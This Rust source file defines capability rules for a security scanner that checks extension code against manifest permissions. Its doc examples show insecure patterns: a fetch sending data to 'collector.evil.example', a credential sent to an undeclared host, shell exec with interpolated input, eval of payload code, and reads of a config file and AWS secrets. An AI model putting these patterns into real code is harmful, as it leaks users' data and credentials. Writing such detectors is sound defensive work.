//! Declarations of the `capability/…` rules: declared against observed capabilities.

use portcullis_core::rule::Rule;
use portcullis_core::{Finding, Location, Severity, declare_rule};

declare_rule! {
    /// ## What it does
    /// Compares every host the code (or a known dependency) reaches with the hosts the manifest declares (egress permissions, base URLs, credential hosts), per channel where the platform enforces channels (Forge backend vs. Custom UI). On platforms without egress declarations (Node-RED, plain npm) the finding is informational inventory.
    ///
    /// ## Why is this bad?
    /// An undeclared destination is invisible to the reviewers who approved the manifest: it is where data exfiltration, telemetry or a compromised dependency's beacon shows up. On Forge the call also fails at run time.
    ///
    /// ## Example
    /// ```js
    /// // manifest.yml declares fetch.backend: [api.acme.io]
    /// await fetch('https://collector.evil.example/ingest', { body });
    /// ```
    ///
    /// ## Use instead
    /// Declare the host (and justify it in review), or remove the call.
    ///
    /// ## References
    /// - [CWE-200](https://cwe.mitre.org/data/definitions/200.html)
    /// - [CWE-441](https://cwe.mitre.org/data/definitions/441.html)
    pub static UNDECLARED_EGRESS = {
        id: "capability/undeclared-egress",
        title: "Undeclared network egress",
        category: Capability,
        severity: Medium,
        confidence: High,
        summary: "Code reaches a host no manifest declaration allows.",
        cwe: [200, 441],
        owasp: ["A10:2021"],
        signals: [UndeclaredEgress],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports requests whose destination host comes from a user-configured field (an n8n base-URL parameter, a Grafana `jsonData.url`) or from arbitrary data, when the manifest does not declare that field as a destination.
    ///
    /// ## Why is this bad?
    /// A destination chosen at run time is a server-side request forgery surface: the platform's network position (cloud metadata, internal services) becomes reachable, with the extension's credentials attached.
    ///
    /// ## Example
    /// ```js
    /// const url = this.getNodeParameter('url', i);
    /// await this.helpers.httpRequest({ url });
    /// ```
    ///
    /// ## Use instead
    /// Restrict the host to an allow-list, or declare the field as user-configured so reviewers see it.
    ///
    /// ## References
    /// - [CWE-918](https://cwe.mitre.org/data/definitions/918.html)
    pub static USER_CONFIGURED_EGRESS = {
        id: "capability/user-configured-egress",
        title: "Egress to a user-configured or arbitrary host",
        category: Capability,
        severity: Low,
        confidence: High,
        summary: "Requests go to a host taken from configuration or input.",
        cwe: [918],
        owasp: ["A10:2021"],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports declared egress entries that are `*` (any host, high) or `*.domain` (every subdomain, low).
    ///
    /// ## Why is this bad?
    /// A wildcard turns the declaration into no declaration: any exfiltration destination passes review and platform enforcement.
    ///
    /// ## Example
    /// ```yaml
    /// permissions:
    ///   external:
    ///     fetch:
    ///       backend:
    ///         - '*'
    /// ```
    ///
    /// ## Use instead
    /// List the exact hosts the app calls.
    ///
    /// ## References
    /// - [CWE-183](https://cwe.mitre.org/data/definitions/183.html)
    pub static WILDCARD_EGRESS = {
        id: "capability/wildcard-egress",
        title: "Wildcard egress declared",
        category: Capability,
        severity: High,
        confidence: High,
        summary: "The manifest allows egress to `*` or to every subdomain of a domain.",
        cwe: [183],
        owasp: ["A10:2021"],
    }
}

declare_rule! {
    /// ## What it does
    /// Compares the hosts code sends a credential to with the hosts the credential declares (n8n `test.request`/base URL, Grafana route URL, generic `hosts`).
    ///
    /// ## Why is this bad?
    /// Sending a user's API token to a different host is credential theft, whether by design or by a compromised dependency.
    ///
    /// ## Example
    /// ```js
    /// const { apiKey } = await this.getCredentials('acmeApi');
    /// await this.helpers.httpRequest({ url: 'https://other.example/x', headers: { 'x-key': apiKey } });
    /// ```
    ///
    /// ## Use instead
    /// Send credentials only to their declared hosts; use the platform's authenticated request helper.
    ///
    /// ## References
    /// - [CWE-522](https://cwe.mitre.org/data/definitions/522.html)
    /// - [CWE-201](https://cwe.mitre.org/data/definitions/201.html)
    pub static CREDENTIAL_HOST_MISMATCH = {
        id: "capability/credential-host-mismatch",
        title: "Credential sent to a host it is not bound to",
        category: Capability,
        severity: High,
        confidence: High,
        summary: "A credential flows to a host outside the hosts it is declared for.",
        cwe: [522, 201],
        owasp: ["A07:2021"],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports credential fields the code uses as secrets (sent in an auth header, signed with) that the manifest does not mark as password/secure fields.
    ///
    /// ## Why is this bad?
    /// Unmasked fields are shown in clear text in editors and exports, and stored without the platform's secret protection.
    ///
    /// ## Example
    /// ```json
    /// { name: 'apiKey', type: 'string', default: '' }   // used as Bearer token
    /// ```
    ///
    /// ## Use instead
    /// Mark the field as a password / secure field in the manifest.
    ///
    /// ## References
    /// - [CWE-312](https://cwe.mitre.org/data/definitions/312.html)
    pub static SECRET_IN_PLAIN_FIELD = {
        id: "capability/secret-in-plain-field",
        title: "Secret kept in a plain configuration field",
        category: Capability,
        severity: Medium,
        confidence: High,
        summary: "Code treats a credential field as a secret that the manifest does not mask.",
        cwe: [312],
        owasp: ["A02:2021"],
        signals: [Hygiene],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports declared or observed ingress points known to lack authentication (Forge web triggers, routes without auth middleware).
    ///
    /// ## Why is this bad?
    /// Anyone who learns the URL can drive the extension, inject data into workflows or trigger actions with the installation's privileges.
    ///
    /// ## Example
    /// ```yaml
    /// modules:
    ///   webtrigger:
    ///     - key: sync
    ///       function: sync
    /// ```
    ///
    /// ## Use instead
    /// Verify a signature or shared secret in the handler, and treat the payload as untrusted.
    ///
    /// ## References
    /// - [CWE-306](https://cwe.mitre.org/data/definitions/306.html)
    pub static UNAUTHENTICATED_INGRESS = {
        id: "capability/unauthenticated-ingress",
        title: "Ingress without authentication",
        category: Capability,
        severity: Medium,
        confidence: High,
        summary: "A webhook, web trigger or HTTP route accepts unauthenticated requests.",
        cwe: [306],
        owasp: ["A01:2021"],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports child processes on platforms that forbid them (n8n, Forge, browser-side PCF/Grafana code) or that the generic manifest does not list.
    ///
    /// ## Why is this bad?
    /// A child process escapes every platform control: it can read the host, the platform's secrets and other tenants' data.
    ///
    /// ## Example
    /// ```js
    /// import { exec } from 'child_process';
    /// exec(`ping ${host}`);
    /// ```
    ///
    /// ## Use instead
    /// Use a platform API or a pure-JS library; declare the exact command in portcullis.toml when it is truly needed.
    ///
    /// ## References
    /// - [CWE-78](https://cwe.mitre.org/data/definitions/78.html)
    /// - [CWE-250](https://cwe.mitre.org/data/definitions/250.html)
    pub static UNDECLARED_PROCESS = {
        id: "capability/undeclared-process",
        title: "Child process not allowed",
        category: Capability,
        severity: High,
        confidence: High,
        summary: "Code (or a dependency) starts processes the platform or manifest does not allow.",
        cwe: [78, 250],
        owasp: ["A03:2021"],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports dynamic code evaluation that the manifest does not declare.
    ///
    /// ## Why is this bad?
    /// Code that is not in the package cannot be reviewed; eval of remote or user data is remote code execution.
    ///
    /// ## Example
    /// ```js
    /// new Function(payload.script)();
    /// ```
    ///
    /// ## Use instead
    /// Remove dynamic evaluation; declare `dynamic_code = true` only with a reviewed justification.
    ///
    /// ## References
    /// - [CWE-95](https://cwe.mitre.org/data/definitions/95.html)
    pub static UNDECLARED_DYNAMIC_CODE = {
        id: "capability/undeclared-dynamic-code",
        title: "Dynamic code evaluation not allowed",
        category: Capability,
        severity: High,
        confidence: High,
        summary: "`eval`, `new Function`, `vm` or a sandbox library on a platform that does not allow it.",
        cwe: [95],
        owasp: ["A03:2021"],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports native modules (from code or from a dependency such as better-sqlite3) that are not declared.
    ///
    /// ## Why is this bad?
    /// Native code cannot be analysed like JS, runs with full process privileges and often downloads prebuilt binaries at install time.
    ///
    /// ## Example
    /// ```js
    /// const Database = require('better-sqlite3');
    /// ```
    ///
    /// ## Use instead
    /// Use a pure-JS alternative, or declare the module for review.
    ///
    /// ## References
    /// - [CWE-829](https://cwe.mitre.org/data/definitions/829.html)
    pub static UNDECLARED_NATIVE_MODULE = {
        id: "capability/undeclared-native-module",
        title: "Native module not allowed",
        category: Capability,
        severity: High,
        confidence: High,
        summary: "A native addon or binary the platform or manifest does not allow.",
        cwe: [829],
        owasp: ["A08:2021"],
        signals: [NativeBinary],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports file reads and writes that the manifest does not declare.
    ///
    /// ## Why is this bad?
    /// File access from an in-process extension reaches the platform's configuration, its encryption key and other users' data.
    ///
    /// ## Example
    /// ```js
    /// fs.readFileSync(path.join(os.homedir(), '.n8n/config'));
    /// ```
    ///
    /// ## Use instead
    /// Use platform binary-data helpers; declare the exact path in portcullis.toml when needed.
    ///
    /// ## References
    /// - [CWE-552](https://cwe.mitre.org/data/definitions/552.html)
    pub static UNDECLARED_FS = {
        id: "capability/undeclared-fs",
        title: "File-system access not allowed",
        category: Capability,
        severity: Medium,
        confidence: High,
        summary: "File-system access the platform or manifest does not allow.",
        cwe: [552],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports environment reads that the generic manifest does not declare.
    ///
    /// ## Why is this bad?
    /// The host's environment holds its secrets; an extension reading it can exfiltrate them.
    ///
    /// ## Example
    /// ```js
    /// const key = process.env.AWS_SECRET_ACCESS_KEY;
    /// ```
    ///
    /// ## Use instead
    /// Take configuration from the platform's settings; declare needed variables in portcullis.toml.
    ///
    /// ## References
    /// - [CWE-526](https://cwe.mitre.org/data/definitions/526.html)
    pub static UNDECLARED_ENV = {
        id: "capability/undeclared-env",
        title: "Environment access not declared",
        category: Capability,
        severity: Low,
        confidence: High,
        summary: "Reads environment variables the generic manifest does not list.",
        cwe: [526],
    }
}

declare_rule! {
    /// ## What it does
    /// Infers the scopes Forge code needs — product REST calls (`requestJira`/`requestConfluence`/`requestBitbucket` route and HTTP method, looked up in a table taken from Atlassian's REST docs), the storage, properties and events APIs, trigger events — and the PCF features its code uses (`context.webAPI`, `context.device.*`, `context.utils`), and reports those the manifest does not declare. A call whose route cannot be resolved statically counts only when the manifest declares no scope of that product at all; products with granular scopes declared are not checked.
    ///
    /// ## Why is this bad?
    /// The platform refuses the call at run time (Forge answers 403, an undeclared PCF feature is unavailable): a feature that breaks in production, or one that an update will make work by widening the consent screen.
    ///
    /// ## Example
    /// ```yaml
    /// permissions:
    ///   scopes:
    ///     - read:jira-work
    /// # src/index.js
    /// await api.asApp().requestJira(route`/rest/api/3/issue/${key}`, { method: 'PUT', body });
    /// ```
    ///
    /// ## Use instead
    /// Declare the scope or feature (and justify it in review), or remove the call.
    ///
    /// ## References
    /// - [CWE-1059](https://cwe.mitre.org/data/definitions/1059.html)
    pub static UNDECLARED_SCOPE = {
        id: "capability/undeclared-scope",
        title: "Scope or feature used but not declared",
        category: Capability,
        severity: Medium,
        confidence: High,
        summary: "Code calls a platform API whose scope or feature the manifest does not declare.",
        cwe: [1059],
        owasp: ["A01:2021"],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports explicit permission declarations (Forge scopes and fetch hosts, PCF domains and features, Grafana IAM permissions, generic allowances) that no observed behaviour uses. Scopes are judged only when code analysis can infer them (Forge scopes in the adapters' table from Atlassian's REST docs, PCF `WebAPI`/`Device.*`/`Utility` features) and did infer some scope; a product with any call whose route is not resolved statically has none of its scopes called unused.
    ///
    /// ## Why is this bad?
    /// Unused permissions widen the blast radius of a compromise and train admins to accept broad consent screens; they also hide where a future malicious update will reach.
    ///
    /// ## Example
    /// ```yaml
    /// permissions:
    ///   scopes:
    ///     - write:jira-work   # the app only reads
    /// ```
    ///
    /// ## Use instead
    /// Remove the declaration.
    ///
    /// ## References
    /// - [CWE-250](https://cwe.mitre.org/data/definitions/250.html)
    pub static UNUSED_DECLARATION = {
        id: "capability/unused-declaration",
        title: "Declared permission is not used",
        category: Capability,
        severity: Low,
        confidence: High,
        summary: "A declared permission, scope or host that no observed behaviour uses (over-broad).",
        cwe: [250],
        owasp: ["A01:2021"],
        signals: [Hygiene],
    }
}

/// Every rule of this crate, in declaration order.
pub static RULES: &[&Rule] = &[
    &UNDECLARED_EGRESS,
    &USER_CONFIGURED_EGRESS,
    &WILDCARD_EGRESS,
    &CREDENTIAL_HOST_MISMATCH,
    &SECRET_IN_PLAIN_FIELD,
    &UNAUTHENTICATED_INGRESS,
    &UNDECLARED_PROCESS,
    &UNDECLARED_DYNAMIC_CODE,
    &UNDECLARED_NATIVE_MODULE,
    &UNDECLARED_FS,
    &UNDECLARED_ENV,
    &UNDECLARED_SCOPE,
    &UNUSED_DECLARATION,
];

/// A finding of `rule` with the rule's CWEs, signals and fix; `severity` overrides the
/// default.
pub(crate) fn finding(
    rule: &Rule,
    severity: Option<Severity>,
    message: impl Into<String>,
    location: Location,
) -> Finding {
    let mut f = Finding::from_rule(rule, message, location);
    if let Some(s) = severity {
        f.severity = s;
    }
    match rule.section("Use instead") {
        Some(fix) => f.with_remediation(fix),
        None => f,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_unique_and_prefixed() {
        let mut ids: Vec<_> = RULES.iter().map(|r| r.id()).collect();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), RULES.len());
        assert!(ids.iter().all(|i| i.starts_with("capability/")));
        assert!(
            RULES
                .iter()
                .all(|r| r.section("Why is this bad?").is_some())
        );
    }
}
